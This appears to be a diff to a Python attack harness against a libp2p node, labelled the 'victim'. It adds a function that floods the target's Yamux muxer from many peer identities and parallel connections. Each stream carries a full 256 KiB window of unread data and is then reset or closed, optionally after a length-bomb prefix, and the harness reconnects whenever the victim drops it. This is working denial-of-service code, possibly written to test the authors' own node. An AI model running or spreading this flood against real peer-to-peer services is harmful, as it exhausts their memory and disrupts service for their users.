@@ -21,6 +21,7 @@ import multiaddr
 import trio
 from libp2p import new_host
 from libp2p.crypto.ed25519 import create_new_key_pair
+from libp2p.crypto.keys import KeyPair
 from libp2p.crypto.x25519 import create_new_key_pair as create_x25519_key_pair
 from libp2p.custom_types import TProtocol
 from libp2p.peer.peerinfo import info_from_p2p_addr
@@ -52,10 +53,13 @@ MPLEX_NEW_STREAM, MPLEX_MESSAGE_INITIATOR, MPLEX_RESET_INITIATOR = 0, 2, 6
 
 
 @asynccontextmanager
-async def muxed_connection(victim_addr: str, muxer: str = "yamux") -> AsyncIterator[Any]:
+async def muxed_connection(
+    victim_addr: str, muxer: str = "yamux", key_pair: KeyPair | None = None
+) -> AsyncIterator[Any]:
     """A connection to the victim over Noise and ``muxer`` ("yamux" or "mplex"): its muxed
-    connection (the library's Yamux or Mplex object), for frames written by hand."""
-    key_pair = create_new_key_pair()
+    connection (the library's Yamux or Mplex object), for frames written by hand. As the peer
+    of ``key_pair`` (several connections of one peer), or of a new key each time."""
+    key_pair = key_pair or create_new_key_pair()
     noise = NoiseTransport(key_pair, noise_privkey=create_x25519_key_pair().private_key)
     muxers: dict[TProtocol, Any] = (
         {TProtocol(YAMUX_PROTOCOL_ID): Yamux}
@@ -389,3 +393,60 @@ async def go_away_and_go_on(victim_addr: str, seconds: float) -> dict[str, Any]:
                 await _until_closed(muxed)
                 closed_by_victim += closed(muxed)
     return {"connections": connections, "closed_by_victim": closed_by_victim}
+
+
+async def send_and_reset(
+    victim_addr: str,
+    seconds: float,
+    peers: int,
+    connections_per_peer: int,
+    protocol: bytes = b"/p2pchat/no-such-protocol/1.0.0",
+    ending: str = "reset",
+    prefix: bytes = b"",
+) -> dict[str, Any]:
+    """Streams that each carry a full initial window (256 KiB: a multistream header, a protocol
+    the victim does not speak, then zeros) the victim never reads, and are then reset: every
+    other one by the attacker, the rest left for the victim to reset (the zeros are not
+    multistream-select). Or on ``protocol``, after ``prefix`` (a length bomb), and closed
+    (``ending="fin"``). ``peers`` PeerIds, each on ``connections_per_peer`` connections at
+    once, each at 48 streams a second (under the victim's open rate: only the unread bytes
+    matter here), a new connection each time the victim closes one, for ``seconds``."""
+    window = 256 * 1024
+    head = delimited(MULTISTREAM) + delimited(protocol + b"\n") + prefix
+    body = head + bytes(window - len(head))
+    opened = connections = closed_by_victim = 0
+
+    async def one_connection(key_pair: KeyPair, end: float) -> None:
+        # (not cancelled from outside: each connection leaves as a peer does, closed)
+        nonlocal opened, connections, closed_by_victim
+        while trio.current_time() < end:
+            connections += 1
+            async with muxed_connection(victim_addr, key_pair=key_pair) as muxed:
+                stream_id = 1_000_001
+                while not closed(muxed) and trio.current_time() < end:
+                    fin = FIN if ending == "fin" else 0
+                    frames = yamux_frame(DATA, SYN | fin, stream_id, window, body)
+                    if ending == "reset" and opened % 2 == 0:
+                        frames += yamux_frame(WINDOW_UPDATE, RST, stream_id, 0)
+                    if not await send_raw(muxed, frames):
+                        break
+                    opened += 1
+                    stream_id += 2
+                    await trio.sleep(1 / 48)
+                closed_by_victim += closed(muxed)
+                # (the library's host leaves its connections' sockets to the garbage collector)
+                with contextlib.suppress(Exception):
+                    await muxed.close()
+
+    end = trio.current_time() + seconds
+    async with trio.open_nursery() as nursery:
+        for _ in range(peers):
+            key_pair = create_new_key_pair()
+            for _ in range(connections_per_peer):
+                nursery.start_soon(one_connection, key_pair, end)
+    return {
+        "streams_opened": opened,
+        "sent_mib": round(opened * window / 2**20, 1),
+        "connections": connections,
+        "closed_by_victim": closed_by_victim,
+    }
